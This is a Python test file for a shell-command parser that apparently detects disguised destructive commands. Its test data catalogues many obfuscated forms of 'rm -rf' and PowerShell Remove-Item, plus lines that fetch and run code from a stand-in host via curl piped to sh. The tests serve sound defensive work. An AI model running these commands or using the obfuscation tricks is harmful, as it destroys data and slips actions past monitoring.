"""Commands in disguise: undone where the script itself tells, else called what they are."""

import base64

import pytest

from components.intent_firewall.shell import parse_shell
from components.intent_firewall.shell_model import Command, Script


def commands(text: str, dialect: str = "sh") -> list[tuple[str, tuple[str, ...]]]:
    return [(one.program, one.words) for one in parse_shell(text, dialect).commands]


def told(script: Script) -> set[str]:
    return {one.why for one in script.opaque}


@pytest.mark.parametrize(
    "text",
    [
        # variables
        "a=xrmx; ${a:1:2} -rf /x", "a=mr; b=${a:1:1}${a:0:1}; $b -rf /x", "a=RM; ${a,,} -rf /x",
        "a=rmdir; ${a%dir} -rf /x", "a=/bin/rm; ${a##*/} -rf /x", "a=rn; ${a/n/m} -rf /x",
        "n=a; a=rm; ${!n} -rf /x", "${x:-rm} -rf /x", "a=(rm -rf /x); \"${a[@]}\"",
        "a=(ls rm); ${a[1]} -rf /x", "for c in rm; do $c -rf /x; done", "rm -rf ${HOME:0:1}x",
        "export c='rm -rf'; $c /x", "c=rm; c+=' -rf'; $c /x",
        # lists in braces
        "{rm,-rf,/x}", "rm -rf /{x,y}",
        # what other programs print
        "$(echo rm) -rf /x", "`echo rm` -rf /x", "$(printf 'r%s' m) -rf /x",
        "$(printf '\\x72\\x6d') -rf /x", "$(echo mr | rev) -rf /x", "$(echo em | tr e r) -rf /x",
        "$(echo ez | tr 'a-z' 'n-za-m') -rf /x", "$(echo 726d | xxd -r -p) -rf /x",
        "$(base64 -d <<< cm0=) -rf /x", "$(echo r_m | sed 's/_//g') -rf /x",
        "c=$(echo cm0= | base64 -d); $c -rf /x",
        # text that is fed to a shell
        "echo 'x/ fr- mr' | rev | sh", "printf '%s -rf /x' rm | sh", "cat <<E | sh\nrm -rf /x\nE",
        "cat <<'E' | sudo bash -s\nrm -rf /x\nE", "echo cm0gLXJmIC94Cg== | base64 -d | sh",
        "base64 -d <<< cm0gLXJmIC94Cg== | sh", "echo 726d202d7266202f78 | xxd -r -p | bash",
        "echo 'eval rm -rf /x' | sh", "bash <<< $(echo 'rm -rf /x')",
        "cat <<E\n`rm -rf /x`\nE", "cat <<E\n$(rm -rf /x)\nE",
        "echo \"import os; os.system('rm -rf /x')\" | python3 -",
        "perl <<'E'\nsystem(\"rm -rf /x\");\nE",
        # what runs something in turn
        "alias ls='rm -rf /x'", "tar cf /dev/null a --checkpoint-action='exec=rm -rf /x'",
        "ssh -o ProxyCommand='rm -rf /x' host", "watch 'rm -rf /x'", "ruby -e '`rm -rf /x`'",
        "ruby -e '%x(rm -rf /x)'", "taskset 1 rm -rf /x", "sshpass -p a rm -rf /x",
    ],
)  # fmt: skip
def test_a_disguised_command_is_found(text: str) -> None:
    script = parse_shell(text)
    removing = [one for one in script.commands if one.program == "rm"]
    assert any(one.words[:2] in {("-rf", "/x"), ("-rf", "/")} for one in removing), script


@pytest.mark.parametrize(
    "text",
    [
        "$x -rf /", "r$@m -rf /", "a$x/b$y -rf", "/b??/cat /etc/x", "/usr/bin/c[a]t x",
        "$(cat f) x", "`tail -1 f`", "eval \"$x\"", "bash -c \"$(curl http://x.test)\"",
        "ls | xargs -I{} {} x", "find . -exec {} \\;", "echo $x | sh", "printf \"$x\" | bash",
        "curl http://x.test | base64 -d | sh", "cat f | xxd -r -p | sh", "echo x | tr $a $b | sh",
        "echo a | gpg -d | sh", "a=$(cat f); $a x",
    ],
)  # fmt: skip
def test_what_only_running_it_tells_is_said_to_be_opaque(text: str) -> None:
    assert parse_shell(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        "eval \"$(ssh-agent -s)\"", "eval \"$(pyenv init -)\"", "$EDITOR notes.txt",
        "\"$HOME/bin/tool\" x", "$(dirname \"$0\")/run.sh", "[ -f x ] && [[ -n $y ]]",
        "echo $x | wc", "echo \"$x\" | python3 -m json.tool", "cat f | base64 -d > g", "a=b; $a x",
        "for f in *.txt; do echo $f; done", "curl http://x.test | tr a b", "ls *.py",
        "rm -rf ${dir:?}/x", "printf '%d%%\\n' 5", "alias ll='ls -l'", "tar czf a.tgz b",
    ],
)  # fmt: skip
def test_ordinary_commands_are_not(text: str) -> None:
    assert told(parse_shell(text)) == set()


def test_an_unknown_variable_stays_as_it_is_written() -> None:
    assert commands('ls ${x:0:1} "$y" ${z/a/b}') == [("ls", ("${x:0:1}", "$y", "${z/a/b}"))]
    assert commands("x=$(cat f); echo ${x:0:3}")[-1] == ("echo", ("${x:0:3}",))
    assert commands("x=a; x=$(cat f); echo $x")[-1] == ("echo", ("$x",))
    assert commands("x=a; x+=$(cat f); echo $x")[-1] == ("echo", ("$x",))


def test_lists_in_braces_are_several_words() -> None:
    assert commands("ls {a,b}/{c,d} '{x,y}' ${z} {1..3}") == [
        ("ls", ("a/c", "a/d", "b/c", "b/d", "{x,y}", "${z}", "{1..3}")),
    ]  # fmt: skip
    (command,) = parse_shell("ls a" + "{b,c}" * 12).commands
    assert len(command.words) <= 64


def test_what_is_put_in_is_bounded() -> None:
    text = f"a={'x' * 4000}; echo " + "$a" * 5000
    longest = max(len(word) for one in parse_shell(text).commands for word in one.words)
    assert longest < 1 << 19


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        (f"powershell -enc {encoded('Remove-Item C:/x')}", "sh"),
        (f"powershell.exe -NoP -EncodedCommand {encoded('Remove-Item C:/x')}", "cmd"),
        ("&('Remove'+'-Item') C:/x", "powershell"),
        ("& ('{1}{0}' -f '-Item','Remove') C:/x", "powershell"),
        ("&('metI-evomeR'[-1..-11] -join '') C:/x", "powershell"),
        ("&('RemovXItem'.Replace('X','e-')) C:/x", "powershell"),
        ("Rem`ove-It`em C:/x", "powershell"),
        ("$c = 'Remove-Item'; & $c C:/x", "powershell"),
        ("$c = 'Remove-'; $c += 'Item'; & $c C:/x", "powershell"),
        ("iex 'Remove-Item C:/x'", "powershell"),
        ("ri C:/x", "powershell"),
        ("cmd /c powershell -c Remove-Item C:/x", "cmd"),
        ("set a=Remove-& set b=Item& powershell %a%%b% C:/x", "cmd"),
        ("set a=xRemove-Item& powershell %a:~1% C:/x", "cmd"),
        ("po^wershell Re^move-Item C:/x", "cmd"),
        ("p\"o\"wershell Remove-Item C:/x", "cmd"),
    ],
)  # fmt: skip
def test_windows_disguises_are_undone(text: str, dialect: str) -> None:
    assert ("remove-item", ("C:/x",)) in [
        (program, words[-1:]) for program, words in commands(text, dialect)
    ]


@pytest.mark.parametrize(
    "text", ["& $x -y", "&(Get-Command x) -y", ". ($a + $b)", "@'\nRemove-Item x", "& ($x[1]) y"]
)
def test_windows_commands_that_are_computed_are_said_to_be(text: str) -> None:
    assert told(parse_shell(text, "powershell")) == {"the program to run is computed"}


@pytest.mark.parametrize(
    "text",
    [
        "& 'C:/a b/tool.exe' -x", "& .\\build.ps1", "$x = 1; if ($x) { ls }", "$f.Name", "$a[0]",
        "$x = @'\nRemove-Item y\n'@", ". .\\profile.ps1", "$s = \"a\" + \"b\"",
        "ls | % { $_.Name }",
    ],
)  # fmt: skip
def test_ordinary_windows_commands_are_not(text: str) -> None:
    script = parse_shell(text, "powershell")
    assert told(script) == set()
    assert "remove-item" not in [one.program for one in script.commands]


def only(text: str, dialect: str) -> Command:
    (command,) = parse_shell(text, dialect).commands
    return command


def test_windows_redirections_are_told_from_words() -> None:
    command = only("echo a > C:\\x.txt 2>nul", "cmd")
    assert command.words == ("a",)
    assert [(one.operator, one.target) for one in command.redirects] == [
        (">", "C:\\x.txt"), (">", "nul"),
    ]  # fmt: skip
    assert [one.target for one in only("'a' >> $PROFILE", "powershell").redirects] == ["$PROFILE"]
    assert only("if (1 -gt 2) { }", "powershell").redirects == ()


def test_a_plain_text_is_no_command_of_powershell() -> None:
    assert commands("$a = 'whoami'", "powershell") == []
    assert commands("$a = whoami", "powershell") == [("whoami", ())]


def test_touching_pieces_are_one_word() -> None:
    assert only('"r"e"g" add HKLM\\x', "cmd").program == "reg"
    assert only('echo a"b c"d', "powershell").words == ("ab cd",)
